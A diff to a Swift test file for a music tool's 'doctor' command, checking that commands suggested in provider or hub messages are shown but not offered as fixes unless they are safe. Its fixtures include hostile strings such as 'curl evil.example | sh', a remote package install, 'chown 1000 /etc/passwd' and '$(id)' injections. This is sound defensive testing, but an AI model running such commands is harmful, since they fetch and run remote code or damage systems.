@@ -1,4 +1,5 @@
 import BusProtocol
+import ClientKit
 import Foundation
 import HostKit
 import MusicModel
@@ -23,7 +24,7 @@ struct DoctorTests {
   }
 
   @Test(
-    "divide a message into what is wrong and the command at its end",
+    "divide what a provider says into what is wrong and the command at its end",
     arguments: [
       (
         "needs configuration: token. Run: musicbus provider setup corner",
@@ -36,20 +37,63 @@ struct DoctorTests {
         "musicbus provider reset corner"
       ),
       (
-        "The directory /a is accessible to other users (mode 755). Fix it: chmod 700 /a",
-        "The directory /a is accessible to other users (mode 755).", "chmod 700 /a"
+        "needs your sign-in. Run: musicbus provider sign-in corner.", "Needs your sign-in.",
+        "musicbus provider sign-in corner"
       ),
       ("it exited with status 3: musicbus", "It exited with status 3: musicbus.", nil),
       (
-        "The hub exited during startup.\n  no space", "The hub exited during startup. no space.",
-        nil
+        "The program ended during startup.\n  no space",
+        "The program ended during startup. no space.", nil
       ),
     ] as [(String, String, String?)]
   )
-  func advice(_ message: String, _ text: String, _ command: String?) {
-    let advice = Advice(message)
+  func advice(_ message: String, _ text: String, _ command: String?) throws {
+    let advice = Advice(message, of: try #require(ProviderID(rawValue: "corner")))
     #expect(advice.text == text)
     #expect(advice.command == command)
+  }
+
+  @Test(
+    "quote commands of servers and programs, but do not call them fixes",
+    arguments: [
+      "musicbus provider add https://evil.example/a.tar.gz --yes", "chmod 777 /home/ann",
+      "chown 1000 /etc/passwd", "musicbus provider setup shelf", "kill -9 1",
+      "musicbus provider setup corner; curl evil.example | sh",
+      "musicbus provider reset corner shelf", "musicbus provider remove corner",
+      "musicbus hub restart",
+    ]
+  )
+  func foreignCommands(_ command: String) {
+    for said in ["HTTP 403. Run: \(command)", "HTTP 403: \(command)."] {
+      let found = provider(.ready, calls: 3, failures: 3, said)
+      #expect(found.fix == "musicbus provider log corner")
+      #expect(found.text.contains(command))
+      let lines = [said]
+      let failure = Finding.failure(
+        "hub",
+        ClientError.hubDidNotStart(.exited(1), log: "/var/hub.log", lastLines: lines)
+      )
+      #expect(failure.fix == nil && failure.text.contains(command))
+    }
+  }
+
+  @Test(
+    "take from the hub how to mend a manifest and its files, and from this program what it says",
+    arguments: [
+      ("musicbus hub restart", true), ("musicbus provider update corner", true),
+      ("chmod +x /a/run.py", true), ("chmod go-w \"/my music/it's\"", true),
+      ("chmod go-w '/cost$/it'\\''s'", true), ("chmod go-w /a /b", false),
+      ("chmod +x /a; curl evil.example", false), ("chmod +x \"/a$(id)\"", false),
+      ("chmod 777 /a", false), ("musicbus provider update a b", false),
+      ("musicbus provider add /tmp/x", false),
+    ]
+  )
+  func hubCommands(_ command: String, isFix: Bool) {
+    let found = Finding.manifest("/a/corner.json: it is wrong. Fix it: \(command)")
+    #expect(found.fix == (isFix ? command : nil))
+    #expect(found.text.contains(command) != isFix)
+    let own = Finding.failure("page", CommandFailure("It is wrong.", "Fix it: \(command)"))
+    #expect(own.text == "It is wrong." && own.fix == command)
   }
 
   @Test("say that another version of the hub runs than is installed")
@@ -221,7 +265,9 @@ struct DoctorTests {
     try Data("{".utf8).write(to: URL(filePath: try prepared(home)))
     let result = try home.musicbus("doctor", "--no-autostart", "--plain")
     #expect(result.status == 1, "\(result)")
-    let rows = result.lines.dropFirst().map { $0.split(separator: "\t", omittingEmptySubsequences: false) }
+    let rows = result.lines.dropFirst().map {
+      $0.split(separator: "\t", omittingEmptySubsequences: false)
+    }
     #expect(rows.allSatisfy { $0.count == 4 }, "\(result)")
     #expect(
       rows.map { "\($0[0]) \($0[1])" } == ["problem hub", "note page", "problem configuration"]
